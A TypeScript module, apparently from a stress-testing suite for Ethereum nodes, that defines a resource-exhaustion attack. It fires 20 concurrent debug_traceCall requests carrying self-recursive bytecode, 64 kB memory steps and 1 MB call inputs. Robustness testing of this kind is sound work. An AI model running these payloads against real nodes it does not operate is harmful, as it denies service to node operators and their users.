import { type Attack, sized } from '../attack.ts';
import { callOf, endlessly } from '../evm-loops.ts';
import { callsWithoutGas, sha256 } from './native-zero-gas.ts';

/** Calls itself as deep and as often as the gas allows. */
const recursion = endlessly([], [0, 0, 0, 0, 0, 'ADDRESS', 'GAS', 'CALL', 'POP']);
/** Every step has 64 kB of memory. */
const wideSteps = endlessly([0, 65_535, 'MSTORE8'], [1, 'POP']);

/** Traces that grow as long as the execution lasts. */
export const deepTraces: Attack = {
  summary:
    '20 debug_traceCall at once of a self-recursion (callTracer), of steps with 64 kB of memory, of calls with 1 MB of input',
  attack: async (stage) => {
    const { strangers, urls } = stage;
    const lanes = sized(stage, 20, 2);
    const size = sized(stage, 2 ** 20, 2 ** 17);
    const trace = (code: Uint8Array, options: object) => {
      const [call, block, stateOverrides] = callOf(code);
      return strangers.ask(urls.http ?? '', 'debug_traceCall', call, block, { ...options, stateOverrides });
    };
    const lane = async () => {
      await trace(recursion, { tracer: 'callTracer' });
      await trace(wideSteps, { enableMemory: true });
      await trace(recursion, { tracer: 'flatCallTracer' });
      await trace(callsWithoutGas(sha256, size), { tracer: 'callTracer', tracerConfig: { onlyTopCall: true } });
      await trace(callsWithoutGas(sha256, size), { tracer: 'callTracer' });
    };
    await Promise.all(Array.from({ length: lanes }, lane));
  },
};
